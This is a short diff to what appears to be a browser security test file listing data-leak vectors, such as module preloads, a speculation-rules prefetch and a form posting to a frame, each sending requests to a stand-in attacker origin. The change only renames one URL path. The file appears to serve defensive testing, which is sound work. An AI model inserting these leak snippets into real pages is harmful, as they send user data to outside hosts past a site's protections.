@@ -49,7 +49,7 @@ export const leakAttacks: Readonly<Record<string, Attack>> = {
   'a module preload': linkAttack('modulepreload'),
   'a speculation rule': ({ evilOrigin }) =>
     `const s = document.createElement('script'); s.type = 'speculationrules';
-     s.text = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${evilOrigin}/ahead'] }] }); document.body.append(s);
+     s.text = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${evilOrigin}/speculation'] }] }); document.body.append(s);
      await pause()`,
   'a form that targets a frame': ({ evilOrigin }) =>
     `const f = ${appendElement}('form')); f.method = 'post'; f.action = '${evilOrigin}/form'; f.target = 'sink';
